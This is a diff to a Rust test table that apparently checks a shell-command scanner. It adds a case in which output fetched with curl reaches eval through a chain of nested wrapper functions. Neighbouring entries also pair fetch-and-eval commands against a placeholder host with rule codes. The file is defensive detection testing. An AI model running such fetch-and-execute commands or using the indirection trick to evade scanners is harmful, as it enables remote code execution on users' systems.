@@ -526,6 +526,10 @@ const CASES: &[(&str, &str)] = &[
         "0054",
     ),
     ("declare \"x=$(curl -s https://x/v)\"; eval \"$x\"", "0054"),
+    (
+        "a(){ eval \"$out\"; }; A4(){ a;}; A3(){ A4;}; A2(){ A3;}; A1(){ A2;}; getv(){ printf -v \"$1\" %s \"$(curl -s https://x/v)\"; }; F4(){ getv out; }; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; A1; F1",
+        "0054",
+    ),
     ("f(){ eval \"$@\"; }; f echo $(curl -s https://x/v)", "0050"),
     ("tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT; curl -fsS https://x/api > \"$tmp\"; ./process.sh \"$tmp\"", "0045"),
     (
